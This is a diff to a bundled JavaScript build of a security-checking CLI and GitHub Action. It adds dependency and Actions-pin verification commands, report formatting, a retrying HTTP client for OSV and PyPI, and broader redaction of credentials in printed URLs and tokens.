+    const root = verify_parseTrustedRoot(text, file ?? 'TUF trusted root');
+    const threads = Math.min((0,external_node_os_namespaceObject.availableParallelism)(), 4);
+    // Only this action's own bundle starts workerMain in a worker (not the sources under test, not the CLI bundle).
+    if (threads > 1 && /\/verify-deps\/dist\/index\.js$/.test(import.meta.url))
+        return startPool(new URL(import.meta.url), text, threads);
+    return inThreadChecker(new verify_BundleVerifier(root));
+}
+async function loadPolicy(ctx, root, path) {
+    const section = ctx.config.sections['verify-deps'];
+    let policy = section
+        ? policyFromData(section, ctx.config.file ?? '.github/security-actions.yml', () => undefined)
+        : EMPTY_POLICY;
+    if (path) {
+        let text;
+        try {
+            text = await (0,promises_.readFile)((0,external_node_path_.resolve)(root, path), 'utf8');
+        }
+        catch (e) {
+            throw new src/* UserError */.yo(`Input 'policy': cannot read ${path} (${e.code ?? 'error'})`);
+        }
+        policy = mergePolicies(policy, parsePolicyFile(text, path));
+    }
+    return policy;
+}
+const src_main_definition = {
+    name: 'verify-deps',
+    rules: src_rules_REGISTRY,
+    configSchema: verify_deps_config_schema_namespaceObject,
+    // offline is itself the opt-out of the network checks: listing them as not checked must not fail the step.
+    failOnNotChecked: (ctx) => !ctx.inputs.boolean('offline', false) && ctx.inputs.boolean('fail-on-not-checked', true),
+    async run(ctx) {
+        const { inputs } = ctx;
+        const root = (0,external_node_path_.resolve)(ctx.workspace, inputs.string('path', { default: '.' }));
+        const checks = parseChecks(inputs.list('checks'));
+        const provenance = inputs.choice('provenance', ['require', 'warn', 'off'], 'warn');
+        const offline = inputs.boolean('offline', false);
+        inputs.boolean('fail-on-not-checked', true);
+        const globs = inputs.lines('files');
+        const policyPath = inputs.string('policy');
+        const diffBase = inputs.string('diff-base');
+        const token = inputs.string('token');
+        const trustedRoot = inputs.string('trusted-root');
+        const osvUrl = inputs.url('osv-url', 'https://api.osv.dev').replace(/\/+$/, '');
+        const pypiUrl = inputs.url('pypi-url', 'https://pypi.org').replace(/\/+$/, '');
+        const policy = await loadPolicy(ctx, ctx.workspace, policyPath);
+        const files = await collectFiles(root, globs);
+        const base = diffBase ? await filesAtBase(root, diffBase, files) : undefined;
+        const services = {};
+        if (!offline) {
+            if (token)
+                services.github = githubActionsApi(await ctx.github(token));
+            else
+                services.githubMissing = "no token: set the 'token' input (the default github.token is enough)";
+            const http = (service) => new src/* HttpClient */.Qq(service, { userAgent: 'security-actions verify-deps' });
+            services.osv = new OsvClient(osvUrl, http('OSV'));
+            services.pypi = new src/* PyPIClient */.Ms(pypiUrl, http('PyPI'));
+            services.verifier = async () => (checker = await provenanceChecker(trustedRoot ? (0,external_node_path_.resolve)(ctx.workspace, trustedRoot) : undefined, (0,external_node_path_.join)(ctx.env.RUNNER_TEMP || (0,external_node_path_.dirname)(root), 'sigstore-tuf')));
+        }
+        let checker;
+        const result = await verifyDeps({ python: files.python, actions: files.actions, base }, { checks, offline, provenance: stricterProvenance(provenance, policy.provenance), policy, now: new Date() }, services);
+        await checker?.close?.();
+        const requests = (services.osv?.http.requests ?? 0) + (services.pypi?.http.requests ?? 0);
+        return {
+            ...result,
+            errors: [...files.errors, ...(result.errors ?? [])],
+            stats: { ...result.stats, ...(requests ? { 'OSV and PyPI requests': requests } : {}) },
+            target: root,
+            outputs: { 'dependencies-count': String(result.count) }
+        };
+    }
+};
+async function src_main_run(runtime) {
+    await runAction(src_main_definition, runtime ?? (await actionsRuntime()));
+}
+
+;// CONCATENATED MODULE: ./packages/cli/src/commands/verify-deps.ts
+
+
+/** verify-deps as a check: the files it read come from its stats. */
+const verifyDepsCheck = {
+    definition: src_main_definition,
+    // Local runs start offline (no token, maybe no network); `--no-offline` turns the network checks on.
+    fixed: { offline: 'true' },
+    inputs: {
+        checks: 'checks',
+        offline: 'offline',
+        files: 'files',
+        policy: 'policy',
+        provenance: 'provenance',
+        'diff-base': 'diff-base',
+        token: 'token',
+        'osv-url': 'osv-url',
+        'pypi-url': 'pypi-url',
+        'trusted-root': 'trusted-root',
+        'fail-on-not-checked': 'fail-on-not-checked'
+    },
+    examined: (r) => {
+        const counts = [r.stats['Python files'], r.stats['workflow and action files']];
+        return counts.every((n) => typeof n === 'number') ? counts.reduce((a, b) => a + b, 0) : undefined;
+    },
+    looksFor: 'workflow (.github/workflows/*.yml), action (action.yml) or Python dependency file (requirements*.txt, pyproject.toml, uv.lock, poetry.lock, pylock.toml, environment.yml)',
+    filesFlag: 'files'
+};
+const verify_deps_verifyDeps = {
+    summary: 'verify Python dependencies and GitHub Actions pins: pinning, hashes, OSV, PEP 740 provenance, typosquats, impostor commits',
+    usage: '[--repo PATH] [--no-offline] [--diff-base REF] [options]',
+    checkout: true,
+    checks: [verifyDepsCheck],
+    options: {
+        checks: {
+            type: 'string',
+            value: 'LIST',
+            help: 'comma-separated checks: pinning, vulnerabilities, provenance, typosquats, actions (default: all)'
+        },
+        offline: {
+            type: 'boolean',
+            help: 'make no network request (the default here): the network checks are listed as not checked; --no-offline runs them'
+        },
+        files: { type: 'string', value: 'GLOB', help: 'check only the discovered files that match GLOB' },
+        policy: {
+            type: 'string',
+            value: 'FILE',
+            help: 'policy YAML file (publishers, allow-tags, ignore, cooldown-days, typosquat-allow)'
+        },
+        provenance: {
+            type: 'string',
+            value: 'MODE',
+            choices: ['require', 'warn', 'off'],
+            help: 'PEP 740 provenance: require, warn (default) or off'
+        },
+        'diff-base': { type: 'string', value: 'REF', help: 'report only what changed since this commit' },
+        token: {
+            type: 'string',
+            value: 'TOKEN',
+            env: 'GITHUB_TOKEN',
+            help: 'GitHub token for the action checks with --no-offline (default: $GITHUB_TOKEN; none: they are not checked)'
+        },
+        'osv-url': { type: 'string', value: 'URL', help: 'OSV API base URL (default: https://api.osv.dev)' },
+        'pypi-url': { type: 'string', value: 'URL', help: 'PyPI base URL (default: https://pypi.org)' },
+        'trusted-root': {
+            type: 'string',
+            value: 'FILE',
+            help: 'Sigstore trusted_root.json (default: fetched over TUF)'
+        },
+        'fail-on-not-checked': {
+            type: 'boolean',
+            help: 'with --no-offline, checks that could not run fail the run (default); --no-fail-on-not-checked lists them only'
+        },
+        ...REPO_OPTION,
+        ...REPORT_OPTIONS
+    }
+};
+
+;// CONCATENATED MODULE: ./packages/cli/src/commands/index.ts
+// The subcommands, one module each so that every action owns its own.
+
+
+
+
+
+
+
+/**
+ * What `scan` runs: every check that needs only the checkout. A new check is
+ * one more entry here (its flags map to its inputs in its own Check).
+ */
+const SCAN_CHECKS = [verifyDepsCheck];
+const scan = {
+    summary: `run every check that needs only the checkout (${SCAN_CHECKS.map((c) => c.definition.name).join(', ')}), offline`,
+    usage: '[--repo PATH] [options]',
+    checkout: true,
+    checks: SCAN_CHECKS,
+    options: { ...REPO_OPTION, ...REPORT_OPTIONS }
+};
+const COMMANDS = {
+    scan,
+    init: init,
+    'verify-deps': verify_deps_verifyDeps,
+    'pr-scan': prScan,
+    audit: audit_audit,
+    verify: verify,
+    'verify-bundle': verifyBundle
+};
+
+;// CONCATENATED MODULE: ./packages/cli/src/output.ts
+// What a report command prints and writes: the report in the format asked
+// for on stdout (plain text, JSON, SARIF or GitHub workflow annotations), the
+// files named by --sarif and --json, and the verdict with its exit status.
+
+
+
+
+/**
+ * The exit status: 2 when the run could not do what was asked (an error in
+ * a report, or files named that matched nothing), 1 when an action would
+ * fail its step (findings at or above --fail-on, or not-checked entries it
+ * counts), 0 otherwise.
+ */
+function verdictOf(runs, values, failOn, workspace) {
+    const statements = [];
+    let unmatched = false;
+    let nothing = runs.length > 0;
+    for (const { check, report } of runs) {
+        const examined = check.examined?.(report);
+        if (examined !== 0) {
+            nothing = false;
+            continue;
+        }
+        const named = check.filesFlag ? values[check.filesFlag] : undefined;
+        if (typeof named === 'string') {
+            unmatched = true;
+            statements.push(`${report.name}: --${check.filesFlag} '${named}' matched no file it checks (${check.looksFor}).`);
+        }
+        else {
+            statements.push(`${report.name}: nothing to check in ${workspace}: no ${check.looksFor} found.`);
+        }
+    }
+    const reports = runs.map((r) => r.report);
+    const errors = reports.reduce((n, r) => n + r.errors.length, 0);
+    const findings = reports.flatMap((r) => r.findings.filter(src/* isActive */.$m));
+    const notChecked = reports.reduce((n, r) => n + r.notChecked.length, 0);
+    const failing = (0,src/* countsAtOrAbove */.Yc)(findings, failOn);
+    if (errors || unmatched) {
+        const what = [errors ? `${errors} error${errors === 1 ? '' : 's'}` : '', unmatched ? 'no file matched' : '']
+            .filter(Boolean)
+            .join(', ');
+        return {
+            code: EXIT.usage,
+            statements,
+            line: `ERROR: the run is incomplete (${what}); fix the input and run again`
+        };
+    }
+    if (runs.some((r) => r.failed)) {
+        const reasons = [
+            failing.length ? `${failing.join(', ')} at or above --fail-on ${failOn}` : '',
+            !failing.length && notChecked ? `${notChecked} check${notChecked === 1 ? '' : 's'} could not run` : ''
+        ].filter(Boolean);
+        return { code: EXIT.findings, statements, line: `FAIL: ${reasons.join('; ')}` };
+    }
+    if (nothing)
+        return { code: EXIT.ok, statements, line: 'NOTHING CHECKED: no file this command checks was found (see above)' };
+    const below = findings.length;
+    const extra = [
+        below ? `${below} finding${below === 1 ? '' : 's'} below it` : '',
+        notChecked ? `${notChecked} not checked` : ''
+    ].filter(Boolean);
+    return {
+        code: EXIT.ok,
+        statements,
+        line: `PASS: nothing at or above --fail-on ${failOn}${extra.length ? ` (${extra.join('; ')})` : ''}`
+    };
+}
+/** The reports as one: the report itself for one check; for several, everything together under the command's name. */
+function combine(name, reports) {
+    if (reports.length === 1)
+        return reports[0];
+    const rules = new Map(reports.flatMap((r) => r.rules).map((r) => [r.id, r]));
+    return {
+        tool: reports[0].tool,
+        name,
+        target: reports.find((r) => r.target)?.target,
+        startedAt: reports.map((r) => r.startedAt).sort()[0],
+        finishedAt: reports
+            .map((r) => r.finishedAt)
+            .sort()
+            .pop(),
+        rules: [...rules.values()],
+        findings: (0,src/* sortFindings */.Tc)(reports.flatMap((r) => r.findings)),
+        notChecked: reports.flatMap((r) => r.notChecked),
+        stats: Object.fromEntries(reports.flatMap((r) => Object.entries(r.stats).map(([k, v]) => [`${r.name}: ${k}`, v]))),
+        notes: reports.flatMap((r) => r.notes),
+        errors: reports.flatMap((r) => r.errors)
+    };
+}
+// Workflow command escaping, as @actions/core does it.
+const escapeData = (s) => s.replace(/%/g, '%25').replace(/\r/g, '%0D').replace(/\n/g, '%0A');
+const escapeProperty = (s) => escapeData(s).replace(/:/g, '%3A').replace(/,/g, '%2C');
+/** Every active finding as a workflow annotation; not-checked entries as warnings, errors as errors. */
+function githubAnnotations(report) {
+    const lines = [];
+    for (const a of (0,src/* annotationsFor */.gX)(report, Infinity).annotations) {
+        const props = Object.entries({
+            file: a.file,
+            line: a.startLine,
+            col: a.startColumn,
+            endLine: a.endLine,
+            title: a.title
+        })
+            .filter(([, v]) => v !== undefined && v !== '')
+            .map(([k, v]) => `${k}=${escapeProperty(String(v))}`)
+            .join(',');
+        lines.push(`::${a.level}${props ? ` ${props}` : ''}::${escapeData(a.message)}`);
+    }
+    for (const n of report.notChecked)
+        lines.push(`::warning title=${escapeProperty(`Not checked: ${n.check}`)}::${escapeData(`${n.target ? `${n.target}: ` : ''}${n.reason}`)}`);
+    for (const e of report.errors)
+        lines.push(`::error title=${report.name}::${escapeData(e)}`);
+    return lines.map((l) => `${l}\n`).join('');
+}
+/** Prints the reports and the verdict in `format`; writes the --sarif and --json files. */
+async function emit(name, runs, verdict, opts) {
+    const { io, values } = opts;
+    const reports = runs.map((r) => r.report);
+    const paint = io.paint ?? ((_r, t) => t);
+    const sarif = () => JSON.stringify((0,src/* toSarifLog */.xM)(reports), null, 2) + '\n';
+    const json = () => JSON.stringify(combine(name, reports), null, 2) + '\n';
+    switch (opts.format) {
+        case 'plain':
+            for (const r of reports)
+                io.out((0,src/* renderText */.S5)(r, { paint }));
+            for (const s of verdict.statements)
+                io.out(`${s}\n`);
+            io.out(`${paint(verdict.code === EXIT.ok ? 'pass' : verdict.code === EXIT.usage ? 'error' : 'fail', verdict.line)}\n`);
+            break;
+        case 'json':
+            io.out(json());
+            break;
+        case 'sarif':
+            io.out(sarif());
+            break;
+        case 'github':
+            for (const r of reports)
+                io.out(githubAnnotations(r));
+            break;
+    }
+    if (opts.format !== 'plain') {
+        for (const s of verdict.statements)
+            io.err(s);
+        if (!opts.quiet || verdict.code)
+            io.err(verdict.line);
+    }
+    for (const [flag, text] of [
+        ['sarif', sarif],
+        ['json', json]
+    ]) {
+        const file = values[flag];
+        if (typeof file !== 'string')
+            continue;
+        const path = (0,external_node_path_.resolve)(io.cwd, file);
+        try {
+            await (0,promises_.mkdir)((0,external_node_path_.dirname)(path), { recursive: true });
+            await (0,promises_.writeFile)(path, text());
+            if (!opts.quiet)
+                io.err(`${flag === 'sarif' ? 'SARIF' : 'JSON report'} written to ${path}`);
+        }
+        catch (e) {
+            throw new UsageError(`--${flag} ${file}: cannot write (${e.code ?? e.message})`);
+        }
+    }
+}
+
+;// CONCATENATED MODULE: ./packages/cli/src/main.ts
+// sp-security: the actions' engines on a local checkout, with the same
+// options and reports. Every command declares its flags (commands/); this
+// file dispatches, prints help, and turns every failure into one line and an
+// exit status: 0 pass, 1 findings, 2 usage or input error. Never a stack trace.
+
+
+
+
+
+
+
+const GLOBAL_OPTIONS = {
+    help: { type: 'boolean', short: 'h', help: "show this help; 'sp-security COMMAND --help' shows a command's options" },
+    version: { type: 'boolean', short: 'V', help: 'print the version' }
+};
+function usage() {
+    const width = Math.max(...Object.keys(COMMANDS).map((n) => n.length)) + 4;
+    const cmds = Object.entries(COMMANDS)
+        .map(([n, c]) => {
+        const lines = wrap(c.summary, 96 - width);
+        return [`  ${n.padEnd(width)}${lines[0]}`, ...lines.slice(1).map((l) => ' '.repeat(width + 2) + l)].join('\n');
+    })
+        .join('\n');
+    return `sp-security ${src/* VERSION */.xv}: the Scientific Python security checks (SPEC 6, SPEC 8) on a local checkout
+
+Usage: sp-security COMMAND [options]
+
+Commands:
+${cmds}
+
+Options:
+${formatOptions(GLOBAL_OPTIONS)}
+
+${wrap(EXIT_HELP, 100).join('\n')}
+`;
+}
+function commandHelp(name, c) {
+    const paragraphs = [
+        `Usage: sp-security ${name} ${c.usage ?? '[options]'}`,
+        wrap(c.summary.charAt(0).toUpperCase() + c.summary.slice(1) + '.', 100).join('\n'),
+        `Options:\n${formatOptions(c.options)}`,
+        ...(c.notes ?? []).map((n) => wrap(n, 100).join('\n')),
+        ...('checks' in c ? [wrap(EXIT_HELP, 100).join('\n')] : [])
+    ];
+    return `${paragraphs.join('\n\n')}\n`;
+}
+async function runReport(name, cmd, values, io) {
+    const mode = values.quiet ? 'quiet' : values.verbose ? 'verbose' : 'normal';
+    const { workspace, runs } = await runChecks(cmd, values, io, progress(io, mode));
+    const failOn = (values['fail-on'] ?? 'high');
+    const verdict = verdictOf(runs, values, failOn, workspace);
+    await emit(name, runs, verdict, {
+        format: (values.format ?? 'plain'),
+        values,
+        io,
+        quiet: mode === 'quiet'
+    });
+    return verdict.code;
+}
+async function main(argv, given) {
+    // Nothing reaches the terminal with a credential in it, whatever printed it (a URL a flag echoed).
+    const io = { ...given, out: (s) => given.out((0,src/* redact */.E$)(s)), err: (s) => given.err((0,src/* redact */.E$)(s)) };
+    const [name, ...rest] = argv;
+    if (!name) {
+        io.err(usage().trimEnd());
+        return EXIT.usage;
+    }
+    if (name === '-h' || name === '--help' || name === 'help') {
+        const cmd = rest[0] && COMMANDS[rest[0]];
+        io.out(cmd ? commandHelp(rest[0], cmd) : usage());
+        return EXIT.ok;
+    }
+    if (name === '-V' || name === '--version' || name === 'version') {
+        io.out(`${src/* VERSION */.xv}\n`);
+        return EXIT.ok;
+    }
+    const cmd = Object.hasOwn(COMMANDS, name) ? COMMANDS[name] : undefined;
+    if (!cmd) {
+        io.err(name.startsWith('-')
+            ? `sp-security: unknown option ${name}; options go after the command. Run 'sp-security --help' for the commands.`
+            : `sp-security: unknown command '${name}'. Run 'sp-security --help' for the list.`);
+        return EXIT.usage;
+    }
+    try {
+        const values = parseOptions(cmd, rest, io.env);
+        if (values.help) {
+            io.out(commandHelp(name, cmd));
+            return EXIT.ok;
+        }
+        return 'run' in cmd ? await cmd.run(values, io) : await runReport(name, cmd, values, io);
+    }
+    catch (e) {
+        // A usage error is the user's to fix; anything else is ours, still one line.
+        io.err(`sp-security ${name}: ${e instanceof UsageError ? e.message : `internal error: ${(0,src/* oneLine */.TN)(e)}`}`);
+        return EXIT.usage;
+    }
+}
+
+
+/***/ }),
+
+/***/ 9752:
+/***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
+
+
+// EXPORTS
+__nccwpck_require__.d(__webpack_exports__, {
+  W$: () => (/* reexport */ COMMENT_LIMIT),
+  Bi: () => (/* reexport */ DEFAULT_CONFIG_PATH),
+  $v: () => (/* reexport */ EMPTY_CONFIG),
+  d$: () => (/* reexport */ FAIL_ON),
+  RG: () => (/* reexport */ FULL_SHA),
+  Qq: () => (/* reexport */ HttpClient),
+  Ms: () => (/* reexport */ PyPIClient),
+  UD: () => (/* reexport */ RuleRegistry),
+  oC: () => (/* reexport */ SEVERITIES),
+  _7: () => (/* reexport */ ServiceError),
+  yo: () => (/* reexport */ UserError),
+  xv: () => (/* reexport */ VERSION),
+  gX: () => (/* reexport */ annotationsFor),
+  c7: () => (/* reexport */ classifyRunsOn),
+  SS: () => (/* reexport */ codeSpan),
+  Yc: () => (/* reexport */ countsAtOrAbove),
+  uP: () => (/* reexport */ createFinding),
+  x0: () => (/* reexport */ defineRules),
+  gg: () => (/* reexport */ describeApiError),
+  CX: () => (/* reexport */ discoverWorkflowFiles),
+  FV: () => (/* reexport */ escapeMarkdown),
+  zS: () => (/* reexport */ fileError),
+  lY: () => (/* reexport */ findFiles),
+  eL: () => (/* reexport */ findTyposquat),
+  O5: () => (/* reexport */ findUses),
+  d_: () => (/* reexport */ inputEnvName),
+  $m: () => (/* reexport */ isActive),
+  tf: () => (/* reexport */ isCalendarDate),
+  kt: () => (/* reexport */ isRateLimitError),
+  t3: () => (/* reexport */ jobRunners),
+  l1: () => (/* reexport */ literalPath),
+  Nj: () => (/* reexport */ logicalLines),
+  sf: () => (/* reexport */ mapLimit),
+  Pc: () => (/* reexport */ types_normalizeName),
+  TN: () => (/* reexport */ oneLine),
+  cA: () => (/* reexport */ (p_limit_default())),
+  o4: () => (/* reexport */ parseConfig),
+  SI: () => (/* reexport */ parsePythonFile),
+  gm: () => (/* reexport */ parseTomlFile),
+  BU: () => (/* reexport */ yaml_parseYamlFile),
+  lN: () => (/* reexport */ pythonFileKind),
+  E$: () => (/* reexport */ errors_redact),
+  aZ: () => (/* reexport */ renameInputs),
+  Gc: () => (/* reexport */ renderMarkdown),
+  S5: () => (/* reexport */ renderText),
+  fD: () => (/* reexport */ rulesOf),
+  Cs: () => (/* reexport */ runAction),
+  Tc: () => (/* reexport */ sortFindings),
+  xM: () => (/* reexport */ toSarifLog),
+  sN: () => (/* reexport */ trustedPublisher),
+  GD: () => (/* reexport */ upsertMarked)
+});
+
+// UNUSED EXPORTS: ANNOTATIONS_PER_LEVEL, CONFIDENCES, FINGERPRINT_KEY, Inputs, NO_FILE, RULE_ID, SARIF_SCHEMA, SECURITY_SEVERITY, SPEC_CLAUSES, SUMMARY_LIMIT, TOOL_URI, actionsRuntime, apiUrlsFromEnv, applyConfig, applySuppressions, buildReport, createGitHubClient, disambiguateFingerprints, escapeInvisible, findingRepository, fingerprintOf, highest, isPopularPackage, isSpecClause, loadConfig, locationText, locationUrl, markdownText, markerTag, meetsThreshold, nameFromUrl, networkReason, notCheckedFails, onSecretRegistered, parseEnvironmentYml, parsePep508, parsePoetryLock, parsePylock, parsePyproject, parseRequirements, parseUsesValue, parseUvLock, parseVcsUrl, pinnedVersion, rank, readCommonInputs, readEvent, readYamlFile, registerSecret, retryAfterSeconds, revisionFromEnv, runMain, sarifLevel, sarifRuleId, specLabel, summaryMarkdown, tally, toSarif, today, versionFromFilename, writeJsonReport, writeSarif, yamlError
 
 ;// CONCATENATED MODULE: ./packages/core/src/severity.ts
 // Severities are ordered; every threshold comparison goes through rank() so
@@ -16710,14 +25380,59 @@ function registerSecret(value) {
     for (const l of listeners)
         l(value);
 }
-/** Replace every registered secret, and anything shaped like a GitHub token, with ***. */
+/**
+ * Query and fragment parameters whose value is a credential, by name: OAuth and
+ * API tokens, keys, passwords, signatures (S3, GCS and Azure pre-signed URLs).
+ */
+const SECRET_PARAM = /token|secret|passw|pwd|signature|credential|auth|session|key$|sig$|^(?:x-amz-|x-goog-)|^(?:pass|code)$/i;
+/** Punctuation that ends a sentence rather than a URL (`see https://h/?a=b.`). */
+const TRAILING = /[).,;:!?'\]]+$/;
+/**
+ * A URL with its credentials replaced by ***: the userinfo (`user:password@`,
+ * or a token given as the user name; `git@` is kept, it is SSH's convention)
+ * and the values of query and fragment parameters named like credentials.
+ */
+function redactUrl(scheme, rest) {
+    const end = rest.search(/[/?#]/);
+    const authority = end < 0 ? rest : rest.slice(0, end);
+    const at = authority.lastIndexOf('@');
+    let tail = rest;
+    if (at >= 0 && authority.slice(0, at) !== 'git')
+        tail = `***${rest.slice(at)}`;
+    const q = tail.search(/[?#]/);
+    if (q < 0)
+        return scheme + tail;
+    const params = tail
+        .slice(q)
+        .replace(/([?#&;])([^=&#;]+)=([^&#;]*)/g, (m, sep, name, value) => {
+        if (!SECRET_PARAM.test(decodeName(name)) || !value)
+            return m;
+        const kept = TRAILING.exec(value)?.[0] ?? '';
+        return `${sep}${name}=***${kept}`;
+    });
+    return scheme + tail.slice(0, q) + params;
+}
+function decodeName(name) {
+    try {
+        return decodeURIComponent(name);
+    }
+    catch {
+        return name;
+    }
+}
+/**
+ * Replace every registered secret, anything shaped like a GitHub or PyPI
+ * token, and the credentials in every URL (userinfo, token-named query
+ * parameters) with ***.
+ */
 function errors_redact(text) {
     let out = text;
     // Longest first: a secret that contains a shorter one must go whole, not leave its tail.
     for (const s of [...registered].sort((a, b) => b.length - a.length))
         out = out.split(s).join('***');
+    out = out.replace(/\b([a-z][a-z0-9+.-]*:\/\/)([^\s"<>`]+)/gi, (_m, scheme, rest) => redactUrl(scheme, rest));
     // No \b anchors: `_` is a word character, so `x_ghp_...` or `ghp_..._x` would not match and leak whole.
-    return out.replace(/gh[pousr]_[A-Za-z0-9]{20,}|github_pat_[A-Za-z0-9_]{20,}/g, '***');
+    return out.replace(/gh[pousr]_[A-Za-z0-9]{20,}|github_pat_[A-Za-z0-9_]{20,}|pypi-AgE[A-Za-z0-9_-]{40,}/g, '***');
 }
 /** The message of any thrown value, as one redacted line. */
 function oneLine(e) {
@@ -17976,12 +26691,193 @@ throttling.VERSION = plugin_throttling_dist_bundle_VERSION;
 throttling.triggersNotification = triggersNotification;
 
 
+;// CONCATENATED MODULE: ./packages/core/src/http.ts
+// The suite's JSON-over-HTTP client for services other than GitHub (OSV,
+// PyPI; GitHub goes through Octokit): timeouts, a bounded retry of 429/5xx
+// and network errors, every wait capped (one Retry-After, and all waits of a
+// client together), and one error type whose message is the "not checked"
+// reason, a sentence about the service. A failure here never reads as "clean".
+
+class ServiceError extends Error {
+    status;
+    name = 'ServiceError';
+    constructor(message, status) {
+        super(message);
+        this.status = status;
+    }
+}
+class HttpClient {
+    service;
+    requests = 0;
+    /** Seconds spent waiting between attempts so far. */
+    waitedSeconds = 0;
+    opts;
+    constructor(service, opts = {}) {
+        this.service = service;
+        this.opts = {
+            timeoutMs: 30_000,
+            retries: 2,
+            backoffMs: 500,
+            maxRetryAfterSeconds: 30,
+            maxTotalWaitSeconds: 120,
+            userAgent: 'security-actions',
+            fetch: globalThis.fetch,
+            ...opts
+        };
+    }
+    /**
+     * GET or POST JSON. Statuses in `accept` (besides 2xx) are returned to the
+     * caller (e.g. 404 meaning "no provenance"); anything else throws ServiceError.
+     */
+    async json(url, init = {}) {
+        const res = await this.send(url, init);
+        if (res.status >= 200 && res.status < 300) {
+            const text = res.bytes.toString('utf8');
+            try {
+                return { status: res.status, body: JSON.parse(text) };
+            }
+            catch {
+                throw new ServiceError(`${this.service} returned malformed JSON from ${http_pathOf(url)} (${text.length} bytes)`, res.status);
+            }
+        }
+        return { status: res.status, body: undefined };
+    }
+    /** Downloads bytes (2xx only). */
+    async bytes(url) {
+        const res = await this.send(url, {});
+        if (res.status < 200 || res.status >= 300)
+            throw new ServiceError(`${this.service} answered ${res.status} for ${http_pathOf(url)}`, res.status);
+        return res.bytes;
+    }
+    async send(url, init) {
+        const accept = new Set(init.accept ?? []);
+        const { target, authorization } = withoutCredentials(url, this.service);
+        const path = http_pathOf(url);
+        for (let attempt = 0;; attempt++) {
+            let status;
+            let wait = (this.opts.backoffMs * 2 ** attempt) / 1000;
+            try {
+                this.requests++;
+                const res = await this.opts.fetch(target, {
+                    method: init.method ?? (init.body === undefined ? 'GET' : 'POST'),
+                    headers: {
+                        'user-agent': this.opts.userAgent,
+                        ...(init.body === undefined ? {} : { 'content-type': 'application/json' }),
+                        ...(authorization ? { authorization } : {}),
+                        ...init.headers
+                    },
+                    body: init.body === undefined ? undefined : JSON.stringify(init.body),
+                    redirect: 'follow',
+                    signal: AbortSignal.timeout(this.opts.timeoutMs)
+                });
+                status = res.status;
+                if ((res.status >= 200 && res.status < 300) || accept.has(res.status)) {
+                    return { status: res.status, bytes: Buffer.from(await res.arrayBuffer()) };
+                }
+                await res.arrayBuffer().catch(() => undefined);
+                const answered = `${this.service} answered ${res.status}${res.status === 429 ? ' (too many requests)' : ''} for ${path}`;
+                if (!(res.status === 429 || res.status >= 500))
+                    throw new ServiceError(answered, res.status);
+                const asked = retryAfterSeconds(res.headers.get('retry-after'));
+                if (asked !== undefined && asked > this.opts.maxRetryAfterSeconds)
+                    throw new ServiceError(`${answered} and asked to wait ${asked} s; gave up after the ${this.opts.maxRetryAfterSeconds} s cap`, res.status);
+                if (attempt >= this.opts.retries)
+                    throw new ServiceError(`${answered}; gave up after ${attempts(attempt + 1)}`, res.status);
+                if (asked !== undefined)
+                    wait = asked;
+                this.spend(wait, answered, status);
+            }
+            catch (e) {
+                if (e instanceof ServiceError)
+                    throw e;
+                const failed = `${this.service} request failed (${networkReason(e, this.opts.timeoutMs)}) at ${path}`;
+                if (attempt >= this.opts.retries)
+                    throw new ServiceError(`${failed}; gave up after ${attempts(attempt + 1)}`, status);
+                this.spend(wait, failed, status);
+            }
+            await new Promise((r) => setTimeout(r, wait * 1000));
+        }
+    }
+    /** Books a wait against the client's budget, or gives up when the budget cannot cover it. */
+    spend(seconds, what, status) {
+        if (this.waitedSeconds + seconds > this.opts.maxTotalWaitSeconds)
+            throw new ServiceError(`${what}; gave up rather than wait again (${Math.round(this.waitedSeconds)} s of the ${this.opts.maxTotalWaitSeconds} s budget for waits already spent)`, status);
+        this.waitedSeconds += seconds;
+    }
+}
+/**
+ * The URL without its `user:password@` (fetch refuses such URLs), and the
+ * Basic authorization they stand for: a private mirror's credentials are
+ * sent as a header and registered as secrets, never printed.
+ */
+function withoutCredentials(url, service) {
+    let u;
+    try {
+        u = new URL(url);
+    }
+    catch {
+        throw new ServiceError(`${service}: '${url}' is not a valid URL`);
+    }
+    if (!u.username && !u.password)
+        return { target: url };
+    const user = decodeURIComponent(u.username);
+    const password = decodeURIComponent(u.password);
+    registerSecret(password);
+    const authorization = `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}`;
+    registerSecret(authorization.slice('Basic '.length));
+    u.username = '';
+    u.password = '';
+    return { target: u.toString(), authorization };
+}
+const attempts = (n) => `${n} attempt${n === 1 ? '' : 's'}`;
+/** Retry-After as seconds: a number of seconds or an HTTP date; undefined when absent or unreadable. */
+function retryAfterSeconds(value, now = Date.now()) {
+    if (value === null || !value.trim())
+        return undefined;
+    if (/^\d+$/.test(value.trim()))
+        return Number(value.trim());
+    const at = Date.parse(value);
+    return Number.isNaN(at) ? undefined : Math.max(0, Math.ceil((at - now) / 1000));
+}
+/** Why a request got no answer, in words (never the HTTP library's own error text). */
+function networkReason(e, timeoutMs) {
+    const err = e;
+    if (err.name === 'TimeoutError' || err.cause?.name === 'TimeoutError')
+        return `timed out after ${timeoutMs} ms`;
+    if (/timed out after \d+ ms/.test(String(e)))
+        return /timed out after \d+ ms/.exec(String(e))[0];
+    const code = err.cause?.code ?? '';
+    if (code === 'ENOTFOUND' || code === 'EAI_AGAIN')
+        return 'the host name could not be resolved';
+    if (code === 'ECONNREFUSED')
+        return 'the connection was refused';
+    if (code === 'ETIMEDOUT' || code === 'UND_ERR_CONNECT_TIMEOUT')
+        return 'the connection timed out';
+    if (/bad port/i.test(String(err.cause?.message)))
+        return 'the port is one that fetch refuses to connect to';
+    if (/CERT|SSL|TLS|SELF_SIGNED/.test(code))
+        return `the server's TLS certificate was not accepted (${code})`;
+    if (code === 'ECONNRESET' || code === 'EPIPE' || code.startsWith('UND_ERR_') || /terminated/i.test(String(e)))
+        return 'the connection was closed before the answer was complete';
+    return 'no answer';
+}
+function http_pathOf(url) {
+    try {
+        return new URL(url).pathname;
+    }
+    catch {
+        return url;
+    }
+}
+
 ;// CONCATENATED MODULE: ./packages/core/src/github.ts
 // One way to talk to GitHub for every action: REST and GraphQL, base URLs from
 // GITHUB_API_URL / GITHUB_GRAPHQL_URL (GitHub Enterprise Server), Octokit's own
 // throttling and retry plugins for primary and secondary rate limits and 5xx,
-// a per-request timeout, and a counter of real HTTP requests that every
-// action reports.
+// every rate-limit wait capped (one wait, and all of a client's together), a
+// per-request timeout, errors worded as sentences (never an error page's
+// HTML), and a counter of real HTTP requests that every action reports.
+
 
 
 
@@ -18002,10 +26898,11 @@ async function createGitHubClient(opts) {
     registerSecret(opts.token);
